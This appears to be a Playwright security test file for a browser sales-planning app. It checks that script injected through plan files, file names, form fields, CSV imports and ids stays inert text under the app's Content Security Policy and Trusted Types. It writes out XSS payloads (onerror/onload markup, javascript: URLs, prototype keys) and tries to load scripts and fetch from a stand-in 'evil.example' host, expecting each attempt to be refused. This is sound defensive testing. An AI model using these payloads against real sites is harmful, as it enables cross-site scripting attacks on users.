// What comes from outside stays text: no script runs, nothing is fetched from elsewhere, no link leads out. For a build with the security
// settings: a release, or another after `node tools/security.mjs FOLDER`.
import { groups, payloads, planOf, views, withId } from '../hostile.mjs';
import { expect, open, running, startPlan, test } from '../support.mjs';

/** Notes what must never happen: dialogs, and breaches of the security settings. */
test.beforeEach(async ({ page, context }) => {
  page.happened = [];
  page.on('dialog', dialog => {
    page.happened.push(`dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  await context.exposeFunction('breached', what => page.happened.push(`breach: ${what}`));
  await context.addInitScript(() => {
    delete window.showSaveFilePicker;
    document.addEventListener('securitypolicyviolation', event => window.breached(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
  });
});

const file = (name, content, mimeType = 'application/json') => ({ name, mimeType, buffer: Buffer.from(content) });

/** Ctrl+O, again where the planner was not yet there to hear it. */
async function choose(page, files) {
  await expect(async () => {
    const chooser = page.waitForEvent('filechooser', { timeout: 2_000 });
    await page.keyboard.press('Control+o');
    await (await chooser).setFiles(files);
  }).toPass();
}

/** All that stands on the page is text: no element, attribute or link that somebody's text could have made. */
async function inert(page, where) {
  const found = await page.evaluate(() => {
    const troubles = [];
    for (const node of document.querySelectorAll('*')) {
      const name = node.localName;
      if (['iframe', 'object', 'embed', 'base', 'img', 'video', 'audio', 'math', 'frame', 'x', 'animate'].includes(name)) troubles.push(name);
      for (const { name: attribute, value } of node.attributes) {
        if (/^on|^srcdoc$|^formaction$|^ping$/.test(attribute) || attribute === 'style' && value.includes('url(')) troubles.push(`${name} ${attribute}=${value}`);
        if (/^(href|src|action|xlink:href)$/.test(attribute) && !['script', 'link'].includes(name)) {
          const address = new URL(value, location.href);
          // A text that is a safe address as a whole is a link, which tells the other side nothing of this page.
          const safe = node.matches('a.web-link[target="_blank"][rel~="noopener"][rel~="noreferrer"]') && /^(https?:\/\/|mailto:|tel:)/.test(value);
          const leadsOut = address.origin !== location.origin && !safe;
          if (leadsOut) troubles.push(`${name} ${attribute}=${value}`);
        }
      }
    }
    if (document.scripts.length > 3) troubles.push(`${document.scripts.length} scripts`);
    return troubles;
  });
  expect(found, where).toEqual([]);
  expect(page.happened, where).toEqual([]);
}

/** Opens the views one by one. */
async function walk(page, all = views()) {
  for (const [address, shown] of all) {
    await page.goto(`./${address}`);
    await expect(page.locator('main'), address).toContainText(shown);
    await inert(page, address);
  }
}

test('fault 27: script in every text of a plan file is shown as text on every view', async ({ page }) => {
  test.setTimeout(600_000);
  expect(payloads.length).toBeGreaterThanOrEqual(40);
  await open(page);
  await expect(page.locator('head > *').first()).toHaveAttribute('http-equiv', 'Content-Security-Policy');
  for (const [round, group] of groups.entries()) {
    await choose(page, file(`round-${round}.plan.json`, planOf(group, `round-${round}`)));
    await expect(page.getByRole('banner')).toContainText('Head.name');
    await expect(page.locator('main')).toContainText(group[0].trim().replace(/\s+/g, ' '));
    await walk(page, round === 0 ? views() : views().slice(0, 11));
  }
  await page.reload();
  await running(page);
  await walk(page, views().slice(0, 3));
});

test('fault 27: evidence that is a safe address is a link, and no other text is', async ({ page }) => {
  await open(page);
  const plan = JSON.parse(planOf(['text'], 'links'));
  const [safe, ...others] = ['https://mill.example/offer?no=7', 'javascript:alert(1)', 'https://mill.example@evil.example/', 'data:text/html,<b>1</b>', '//evil.example/'];
  for (const [at, id] of ['ax1', 'ax3', 'ax5', 'ax7', 'ax9'].entries()) plan.answers[id].evidence = [safe, ...others][at];
  await choose(page, file('links.plan.json', JSON.stringify(plan)));
  await expect(page.getByRole('banner')).toContainText('Head.name');
  await page.goto('./#/opportunities/o1?all=1');
  const link = page.getByRole('link', { name: safe });
  await expect(link.first()).toHaveAttribute('href', safe);
  await expect(link.first()).toHaveAttribute('rel', /noopener noreferrer/);
  for (const other of others) {
    await expect(page.getByText(other).first()).toBeVisible();
    await expect(page.getByRole('link', { name: other })).toHaveCount(0);
  }
  expect(await page.locator('a[target]').count()).toBe(await link.count());
  await inert(page, 'links');
});

test('fault 27: ids that are no plain words are addresses all the same', async ({ page }) => {
  test.setTimeout(300_000);
  await open(page);
  for (const [round, id] of ['"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '../../a/b?c=d#e%2F', '__proto__'].entries()) {
    const lead = `lead ${id}`.slice(0, 60);
    const text = `<b>bold ${round}</b>`;
    const plan = withId(withId(planOf([text], `ids-${round}`), 'o1', id), 'l1', lead);
    await choose(page, file('ids.plan.json', plan));
    // This round's plan: the last one's name has the same place in it.
    await expect(page.getByRole('banner')).toContainText(text);
    await expect(page.locator('main')).toContainText(text);
    await walk(page, views({ deal: id, lead }).slice(0, 11));
  }
});

test('fault 27: script typed into every field of the main forms stays text', async ({ page }) => {
  test.setTimeout(600_000);
  await open(page);
  await choose(page, file('typed.plan.json', planOf(['plain'], 'typed')));
  await expect(page.getByRole('banner')).toContainText('Head.name');
  let next = 0;
  const fill = async (within, where) => {
    const fields = within.locator('input[type=text], input[type=email], input[type=search], input:not([type]), textarea');
    const count = await fields.count();
    for (let at = 0; at < count; at += 1) {
      const field = fields.nth(at);
      if (!await field.isVisible() || !await field.isEditable()) continue;
      next += 1;
      await field.fill(groups[next % groups.length].join(' '));
      await field.blur();
    }
    await inert(page, where);
    return count;
  };
  let filled = 0;
  for (const address of ['#/settings', '#/leads/l1', '#/opportunities/o1?all=1', '#/opportunities/o1/value', '#/opportunities/o1/interview?run=s2&form=1', '#/figures?period=all']) {
    await page.goto(`./${address}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    filled += await fill(page.locator('main'), address);
  }
  for (const [address, button] of [['#/', 'Add opportunity'], ['#/leads', 'Add lead'], ['#/files', 'New plan'], ['#/files', 'Paste text']]) {
    await page.goto(`./${address}`);
    await page.getByRole('button', { name: button }).first().click();
    const dialog = page.getByRole('dialog');
    await expect(dialog).toBeVisible();
    filled += await fill(dialog, button);
    await page.keyboard.press('Escape');
  }
  await page.keyboard.press('Control+k');
  filled += await fill(page.getByRole('dialog'), 'search');
  await page.keyboard.press('Escape');
  expect(filled).toBeGreaterThan(25);
  await walk(page, views().slice(0, 5).map(([address]) => [address, '']));
});

test('fault 27: script in names of files is shown as text', async ({ page }) => {
  test.setTimeout(300_000);
  await startPlan(page, 'Mine');
  for (const group of groups) {
    for (const payload of group) {
      // A disk takes no slash.
      const name = payload.replaceAll('/', '\u2215').trim();
      await choose(page, file(`${name}.json`, '{"hello":1}'));
      await expect(page.getByText('JSON of another program').last()).toBeVisible();
      await inert(page, name);
    }
  }
});

test('fault 27: script in the cells and headings of an imported table is shown as text', async ({ page }) => {
  test.setTimeout(300_000);
  await startPlan(page, 'Mine');
  await page.goto('./#/import');
  const cell = text => `"${text.replaceAll('"', '""')}"`;
  const rows = payloads.map((payload, at) => ['Deal ' + payload, payload, payload, 1000 + at, 'Won', '2026-01-31', payload].map(String).map(cell).join(','));
  const head = ['Opportunity Name', 'Account Name', 'Opportunity Owner', 'Amount', 'Stage', 'Close Date', '<img src=x onerror=alert(1)>'].map(cell).join(',');
  const chooser = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: 'Choose files' }).click();
  await (await chooser).setFiles([file('<svg onload=alert(1)>.csv', `${head}\n${rows.join('\n')}\n`, 'text/csv')]);
  const go = page.getByRole('button', { name: 'Import', exact: true });
  await expect(go).toBeEnabled();
  await inert(page, 'the desk');
  await go.click();
  await expect(page.getByRole('link', { name: 'See the figures' })).toBeVisible();
  await inert(page, 'after the import');
  for (const address of ['#/', '#/?view=table', '#/figures?period=all']) {
    await page.goto(`./${address}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await inert(page, address);
  }
});

test.describe('what somebody else\'s script would try', () => {
  // The browser tells each refusal as an error, which is what is wanted here.
  test.use({ expected: /Content Security Policy|TrustedHTML|Trusted|Refused|foreign request: https:\/\/evil\.example/ });

  test('fault 27: neither markup nor code is made of text, and nothing is fetched from elsewhere', async ({ page }) => {
    await open(page);
    const tried = await page.evaluate(async () => {
      const refused = async act => {
        try { await act(); return 'done'; } catch (error) { return error.name; }
      };
      return {
        markup: await refused(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'); }),
        element: await refused(() => { document.createElement('div').innerHTML = '<svg onload=alert(1)></svg>'; }),
        script: await refused(() => { document.createElement('script').src = 'https://evil.example/x.js'; }),
        text: await refused(() => { document.createElement('script').textContent = 'alert(1)'; }),
        worker: await refused(() => new Worker('https://evil.example/w.js')),
        policy: await refused(() => trustedTypes.createPolicy('mine', { createHTML: html => html })),
        fetch: await refused(() => fetch('https://evil.example/')),
        own: await refused(() => { document.createElement('div').innerHTML = '<path d="M0 0"></path>'; }),
      };
    });
    expect(tried).toEqual({
      markup: 'TypeError', element: 'TypeError', script: 'TypeError', text: 'TypeError', worker: 'TypeError', policy: 'TypeError', fetch: 'TypeError', own: 'done',
    });
  });
});
